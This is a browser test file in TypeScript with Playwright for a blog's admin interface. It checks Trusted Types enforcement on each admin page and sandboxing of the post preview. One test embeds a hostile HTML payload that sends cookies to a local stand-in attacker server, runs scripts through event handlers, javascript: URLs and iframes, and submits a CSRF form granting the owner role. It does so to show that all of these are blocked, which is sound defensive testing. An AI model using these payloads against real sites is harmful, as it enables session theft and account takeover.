import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { PostStore } from '../src/posts/post.store.js';
import { type Blog, startBlog } from './support/blog.js';
import { browserSkipReason, openBrowser } from './support/browser.js';
import { fields } from './support/fields.js';
import { Owner } from './support/signed-in.js';

const places =
  `/admin /admin/settings /admin/trash /admin/problems /admin/posts/1 /admin/posts/1/comparison /admin/posts/1/preview-links /admin/posts/1/revisions
  /admin/posts/1/receipts /admin/posts/1/authors /admin/posts/1/merger /admin/tokens /admin/session/proof /admin/people /admin/people/1 /admin/people/me /admin/people/me/security
  /admin/mentions /admin/media /admin/redirects /admin/redirects/import /admin/redirects/feeds /admin/imports /admin/radar /admin/audit /admin/links
  /admin/outside-images /admin/agent /admin/backups /admin/health /admin/measures /admin/readers /admin/none`.split(/\s+/);

describe('the admin in a browser', { skip: browserSkipReason() }, () => {
  let blog: Blog;
  let owner: Owner;
  let browser: Browser;
  let server: Server | undefined;
  before(async () => {
    blog = await startBlog();
    owner = await Owner.of(blog);
    browser = await openBrowser();
  });
  after(async () => {
    server?.close().closeAllConnections();
    await browser?.close();
    await blog?.stop();
  });

  /** What the browser says against a page: refused by its policy, or thrown. */
  function complaints(page: Page): string[] {
    const said: string[] = [];
    page.on('console', (message) => message.type() === 'error' && said.push(message.text()));
    page.on('pageerror', (error) => said.push(String(error)));
    return said;
  }

  test('runs every page under its policy, and takes no text for HTML on any', async () => {
    const page = await owner.page(browser);
    const said = complaints(page);
    for (const path of places) {
      const reply = await page.goto(path, { waitUntil: 'load' });
      assert.match(reply!.headers()['content-security-policy']!, /require-trusted-types-for 'script'; trusted-types qvill$/, path);
      assert.deepEqual(
        said.splice(0).filter((line) => !/status of 404/.test(line)),
        [],
        path,
      );
      const tried = await page.evaluate(() => {
        const attempt = (work: () => unknown): string => {
          try {
            work();
            return 'done';
          } catch (error) {
            return (error as Error).name;
          }
        };
        const sink = document.createElement('div');
        const script = document.createElement('script');
        return [
          attempt(() => (sink.innerHTML = '<img src=x>')),
          attempt(() => sink.insertAdjacentHTML('beforeend', '<b>')),
          attempt(() => new DOMParser().parseFromString('<b>', 'text/html')),
          attempt(() => (script.textContent = 'document.title = 1')),
          attempt(() => (script.src = '/x.js')),
          attempt(() => setTimeout('document.title = 1' as never, 0)),
          attempt(() => (globalThis as never as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('other', {})),
        ];
      });
      assert.deepEqual([tried, await page.locator('body img[src=x]').count()], [Array(7).fill('TypeError'), 0], path);
      said.length = 0;
    }
    await page.context().close();
  });

  test('shows what is typed in the preview, its own style sheets and styles among it, and pastes several lines', async () => {
    const id = await blog.app
      .get(PostStore)
      .create(
        fields({ title: 'Styled', markdown: '<style>.a{color:rgb(1, 2, 3)}</style>\n\n<p class="a b c" style="margin-left: 7px">One</p>' }),
        { by: owner.id, reason: 'saved', status: 'idea' },
        { authorIds: [owner.id] },
      );
    const page = await owner.page(browser);
    await page.goto(`/admin/posts/${id}`);
    const said = complaints(page);
    await page
      .getByRole('button', { name: /preview/i })
      .first()
      .click();
    const shown = page.frameLocator('iframe').locator('p.a');
    const style = () => shown.evaluate((p) => [getComputedStyle(p).color, getComputedStyle(p).marginLeft, getComputedStyle(p).paddingLeft]);
    await shown.waitFor();
    assert.deepEqual(await style(), ['rgb(1, 2, 3)', '7px', '0px']);
    const text = page.locator('textarea[name=markdown]');
    await text.fill('<style>.a{color:rgb(4, 5, 6)}</style>\n\n<style>.b{padding-left:9px}</style>\n\n<p class="a b c" style="margin-left: 8px">Two</p>');
    await page.frameLocator('iframe').getByText('Two').waitFor();
    assert.deepEqual(await style(), ['rgb(4, 5, 6)', '8px', '9px']);
    // That the page is in a sandbox, and typed style sheets are not taken as elements, is as it should be
    assert.deepEqual(
      said.filter((line) => !/^(?:Blocked script execution in|Applying inline style violates)/.test(line)),
      [],
    );
    await page.context().close();
  });

  test('holds a preview of hostile HTML where it reaches nothing', async () => {
    const caught: string[] = [];
    const evil = (server = createServer((request, response) => {
      if (request.url !== '/pixel') caught.push(`${request.method} ${request.url}`);
      response.setHeader('Content-Type', 'text/html');
      response.end('<script>if (top !== self) top.location = "/taken"; if (opener) opener.location = "/opened"</script>');
    }));
    await once(evil.listen(0, '127.0.0.1'), 'listening');
    const at = `http://127.0.0.1:${(evil.address() as { port: number }).port}`;
    const markdown = `<div id="kept">Here</div>
<script>fetch('${at}/script?' + document.cookie); parent.document.title = 'taken'; localStorage.setItem('taken', 1)</script>
<img src="x" onerror="fetch('${at}/handler'); parent.document.title = 'taken'">
<svg onload="top.location='${at}/top'"><script>top.location='${at}/svg'</script></svg>
<iframe src="javascript:parent.parent.document.title='taken'"></iframe>
<iframe srcdoc="<script>parent.parent.document.title='taken';fetch('${at}/srcdoc')</script>"></iframe>
<iframe src="${at}/frame"></iframe><iframe src="/admin/tokens"></iframe><object data="${at}/object"></object><embed src="${at}/embed">
<form id="f" action="/admin/people/invitations" method="post"><input name="role" value="owner"><button id="go">Go</button></form>
<form action="${at}/form" target="_top"><button id="out">Out</button></form>
<a id="up" href="${at}/up" target="_top">Up</a><a id="js" href="javascript:opener.document.title='taken'" target="_blank">Pop</a>
<a id="pop" href="${at}/pop">Pop</a>
<link rel="stylesheet" href="${at}/sheet"><style>@import url(${at}/import); body{background:url(${at}/pixel)}</style>
<meta http-equiv="refresh" content="0;url=/admin/session/new"><base href="${at}/">`;
    const id = await blog.app
      .get(PostStore)
      .create(fields({ title: 'Hostile', markdown }), { by: owner.id, reason: 'saved', status: 'idea' }, { authorIds: [owner.id] });
    const rows = (await owner.ask('GET /admin/people')).body;
    for (const isFramed of [true, false]) {
      const page = await owner.page(browser);
      page.on('dialog', () => caught.push('dialog'));
      await page.goto(isFramed ? `/admin/posts/${id}` : `/admin/posts/${id}/preview`);
      if (isFramed)
        await page
          .getByRole('button', { name: /preview/i })
          .first()
          .click();
      const frame = isFramed ? page.frameLocator('iframe').first() : page;
      await frame.locator('#kept').waitFor();
      const title = await page.title();
      const click = (selector: string) =>
        frame
          .locator(selector)
          .first()
          .evaluate((element) => (element as HTMLElement).click())
          .catch(() => undefined);
      for (const selector of ['#go', '#out', '#js']) await click(selector);
      if (isFramed) await click('#up');
      await page.waitForTimeout(700);
      if (isFramed) assert.deepEqual([new URL(page.url()).pathname, await page.title()], [`/admin/posts/${id}`, title]);
      assert.equal(await page.evaluate(() => localStorage.getItem('taken')).catch(() => null), null);
      assert.equal((await page.context().cookies()).filter(({ name }) => name === 'qvill_session').length, 1);
      for (const other of page.context().pages()) if (other !== page) assert.equal(await other.evaluate(() => opener === null).catch(() => true), true);
      await page.context().close();
    }
    // Who follows a link goes there, as from any page; nothing else was asked for or sent, and nothing was done
    assert.deepEqual(
      caught.filter((line) => !/^GET \/(pop|up)$/.test(line)),
      [],
    );
    const after = (await owner.ask('GET /admin/people')).body;
    assert.equal(after.includes('invitations/'), rows.includes('invitations/'));
  });
});
